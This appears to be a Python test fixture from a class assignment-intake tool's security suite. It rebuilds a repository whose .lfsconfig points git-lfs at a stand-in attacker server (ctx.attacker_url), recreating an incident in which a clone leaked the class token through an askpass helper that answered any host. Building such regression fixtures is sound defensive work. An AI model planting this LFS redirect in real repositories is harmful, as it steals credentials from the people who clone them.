"""collate.py committed as a Git LFS pointer, with .lfsconfig sending git-lfs to the student's own server.

Row 1 of the intake issue: the old clone ran git-lfs's smudge filter, which
asked the student's server (lfs.url) for the object, got a 401, and took
the class token from an askpass that answered any host.
"""

import hashlib


def build(repo, ctx):
    real = ctx.reference()["exercises/collate.py"]
    pointer = (b"version https://git-lfs.github.com/spec/v1\n"
               b"oid sha256:" + hashlib.sha256(real).hexdigest().encode() + b"\n"
               b"size " + str(len(real)).encode() + b"\n")
    files = ctx.reference(collate=pointer)
    files[".gitattributes"] = b"exercises/collate.py filter=lfs diff=lfs merge=lfs -text\n"
    files[".lfsconfig"] = f"[lfs]\n\turl = {ctx.attacker_url}/lfs\n".encode()
    ctx.push(repo.commit(files, date=ctx.at(-5)), -5)
